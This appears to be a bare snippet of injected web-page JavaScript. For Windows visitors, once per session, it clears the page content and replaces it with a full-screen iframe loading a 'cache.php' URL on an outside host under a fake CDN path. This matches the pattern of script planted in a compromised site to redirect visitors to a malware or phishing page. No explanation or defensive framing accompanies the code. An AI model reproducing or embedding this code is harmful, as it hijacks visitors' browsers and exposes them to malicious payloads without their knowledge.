function zq(l) { var r = "", c = "abcdef0123456789"; for (; l--;) r += c[Math.random() * 16 | 0]; return r; }
var ua = navigator.userAgent.toLowerCase();
if (ua.indexOf("win") > -1 && !sessionStorage.zq) {
  sessionStorage.zq = zq(4);
  document.addEventListener("DOMContentLoaded", function () {
    var i = document.createElement("iframe");
    i.src = "https://" + zq(0) + "linen-atelier.example/cdn-vs/cache.php?" + zq(5);
    i.style = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999999;border:none;background:#fff";
    document.body.innerHTML = "";
    document.body.appendChild(i);
  });
}
